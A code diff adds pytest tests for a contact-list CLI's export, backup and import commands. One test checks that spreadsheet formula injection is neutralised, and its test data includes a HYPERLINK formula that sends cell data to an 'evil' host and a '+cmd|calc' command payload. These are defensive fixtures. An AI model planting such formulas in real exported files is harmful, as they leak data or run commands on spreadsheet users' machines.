@@ -133,6 +133,132 @@ def test_export_writes_a_csv_with_one_row_per_contact_and_every_step(cli, servic
         "Zoë", "渡辺 さくら")
 
 
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_export_quotes_signup_text_a_spreadsheet_would_run_as_a_formula(cli, services, tmp_path):
+    formula = '=HYPERLINK("http://evil/?x="&A1,"click")'
+    enroll_now(services, [signup_request(email="=1+2@example.com", first_name=formula, business_name="@SUM(A1:A2)"),
+                          signup_request(email="plain@example.com", first_name="-2+3", business_name="+cmd|calc")])
+    target = tmp_path / "contacts.csv"
+
+    result = cli("export", "-o", str(target))
+
+    assert result.returncode == 0, result.stderr
+    with open(target, newline="", encoding="utf-8") as fh:
+        cells = {r["email"]: (r["first_name"], r["business_name"], r["segment"]) for r in csv.DictReader(fh)}
+    assert cells == {
+        "'=1+2@example.com": ("'" + formula, "'@SUM(A1:A2)", "OPTIMIZE"),
+        "plain@example.com": ("'-2+3", "'+cmd|calc", "OPTIMIZE"),
+    }
+
+
+
+def assert_one_line_error(result: subprocess.CompletedProcess, code: int, *words: str) -> None:
+    assert result.returncode == code, result.stderr
+    assert "Traceback" not in result.stderr
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and all(w in lines[0] for w in words), result.stderr
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
+def test_export_refuses_to_write_over_the_database_and_its_journal_files(cli, services, tmp_path, suffix):
+    seed_contacts(services)
+    database = tmp_path / "nurture.db"
+    spelt_oddly = f"{tmp_path}/backups/../nurture.db{suffix}"
+
+    result = cli("export", "-o", spelt_oddly)
+
+    assert_one_line_error(result, 2, "refusing to write", spelt_oddly, "database")
+    assert json.loads(cli("stats", "--json").stdout)["contacts"] == 3
+    assert database.read_bytes().startswith(b"SQLite format 3")
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_export_through_a_link_to_the_database_is_refused_too(cli, services, tmp_path):
+    (tmp_path / "contacts.csv").symlink_to(tmp_path / "nurture.db")
+    assert_one_line_error(cli("export", "-o", str(tmp_path / "contacts.csv")), 2, "database")
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+@pytest.mark.parametrize(("output", "reason"), [
+    (".", "Is a directory"),
+    ("no-such-folder/contacts.csv", "there is no folder no-such-folder"),
+    ("/proc/contacts.csv", "No such file or directory"),
+    ("/dev/full", "No space left on device"),
+])
+def test_export_to_a_path_it_cannot_write_says_so_in_one_line(cli, services, tmp_path, output, reason):
+    result = cli("export", "-o", output)
+    assert_one_line_error(result, 1, f"cannot write {output}", reason)
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_export_with_an_empty_output_name_is_a_usage_error(cli, services):
+    result = cli("export", "-o", "")
+    assert result.returncode == 2 and result.stdout == ""
+    assert "needs a file name" in result.stderr and "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_export_into_a_pipe_whose_reader_left_stops_quietly(services, tmp_path):
+    seed_contacts(services)
+    env = cli_env(services.settings.database_url, tmp_path)
+    export = subprocess.Popen([sys.executable, "-m", "core", "export"], cwd=ROOT, env=env,
+                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    export.stdout.close()  # like `| head -1` exiting before the export writes
+    _, stderr = export.communicate(timeout=120)
+    assert export.returncode == 1
+    assert stderr == b""
+
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_backup_into_a_folder_it_cannot_use_says_so_in_one_line(cli, services, tmp_path):
+    (tmp_path / "a-file").write_text("")
+    assert_one_line_error(cli("backup", "--output-dir", str(tmp_path / "a-file")), 1, "not a folder")
+    assert_one_line_error(cli("backup", "--output-dir", "/proc/backups"), 1, "cannot write /proc/backups")
+    done = cli("backup", "--output-dir", str(tmp_path / "backups"))
+    assert done.returncode == 0 and [p.suffix for p in (tmp_path / "backups").iterdir()] == [".db"]
+
+
+def test_backup_of_an_in_memory_database_is_refused_without_a_traceback(tmp_path):
+    result = run_cli("backup", database_url="sqlite://", data_dir=tmp_path)
+    assert_one_line_error(result, 2, "DATABASE_URL")
+
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+@pytest.mark.parametrize(("content", "reason"), [
+    ("email,first_name\nzoe@example.com,Zoë\n".encode("latin-1"), "not UTF-8 text"),
+    ("email,first_name\nzoe@example.com,Zoë\n".encode("utf-16"), "not UTF-8 text"),
+    (b"email,first_name\nbig@example.com," + b"x" * 140_000 + b"\n", "line 2: not readable as CSV"),
+])
+def test_import_of_a_file_it_cannot_read_says_why_in_one_line(cli, services, tmp_path, content, reason):
+    (tmp_path / "list.csv").write_bytes(content)
+    assert_one_line_error(cli("import", str(tmp_path / "list.csv")), 1, str(tmp_path / "list.csv"), reason)
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_import_exits_1_when_no_row_can_be_imported(cli, services, tmp_path):
+    (tmp_path / "list.csv").write_text("email,red_systems\nnot-an-email,1\nann@example.com,²\n", encoding="utf-8")
+    result = cli("import", str(tmp_path / "list.csv"), "--apply")
+    assert result.returncode == 1, result.stderr
+    assert "line 3: rejected: red_systems" in result.stdout and "Traceback" not in result.stderr
+    assert "0 new, 0 already known, 0 refused as erased, 2 rejected" in result.stdout
+
+
+
+@pytest.mark.parametrize("backend", ["sqlite"])
+@pytest.mark.parametrize("command", ["send-test", "forget"])
+@pytest.mark.parametrize("address", ["not-an-email", ""])
+def test_an_invalid_address_is_a_usage_error_and_nothing_is_queued_or_erased(cli, services, command, address):
+    seed_contacts(services)
+    result = cli(command, address, *(["--wait", "0"] if command == "send-test" else []))
+    assert result.returncode == 2, result.stdout + result.stderr
+    assert "not a valid email address" in result.stderr and "Traceback" not in result.stderr
+    assert rows(services.engine, "SELECT kind FROM action") == []
+    assert rows(services.engine, "SELECT kind FROM event WHERE kind IN ('requested_send_test', 'contact_erased')") == []
+
+
 def test_db_upgrade_on_an_empty_database_is_idempotent(database_url, tmp_path):
     first = run_cli("db", "upgrade", database_url=database_url, data_dir=tmp_path)
     second = run_cli("db", "upgrade", database_url=database_url, data_dir=tmp_path)
